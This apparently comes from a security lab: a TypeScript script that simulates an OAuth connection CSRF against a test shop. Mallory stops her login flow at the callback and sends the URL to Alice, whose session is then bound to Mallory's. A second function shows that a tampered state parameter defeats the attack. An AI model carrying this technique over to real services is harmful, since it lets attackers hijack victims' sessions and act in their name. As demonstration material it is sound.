import type { Answer, Place } from '../engine/lab.ts'
import { orderPhoto } from '../engine/order-photo.ts'

/**
 * Mallory connects the shop with her own drive, and stops at the last moment: the address with her code goes to Alice. Alice
 * clicks, is in Mallory's visit from now on, and orders what she sees.
 */
export async function attack(place: Place): Promise<Answer> {
  return open(place, await stopBeforeCallback(place))
}

/** The same address with another state: no question of anybody's. */
export async function wrongAttempt(place: Place): Promise<Answer> {
  const address = new URL(await stopBeforeCallback(place))
  address.searchParams.set('state', 'a-state-of-nobody')
  return open(place, address.href)
}

async function stopBeforeCallback({ shop, person }: Place): Promise<string> {
  const { url } = await person('mallory').walk(`${shop}/connect`, { photos: 2, stopAt: /\/callback\?/ })
  return url
}

async function open(place: Place, address: string): Promise<Answer> {
  const alice = place.person('alice')
  await (await alice.open(`${place.shop}/connect`)).text() // she has a visit of her own
  const callback = await alice.open(address)
  if (callback.status >= 400) return { status: callback.status, text: await callback.text() }
  const { status } = await orderPhoto(place, alice)
  return { status, text: 'Alice ordered what she was shown' }
}
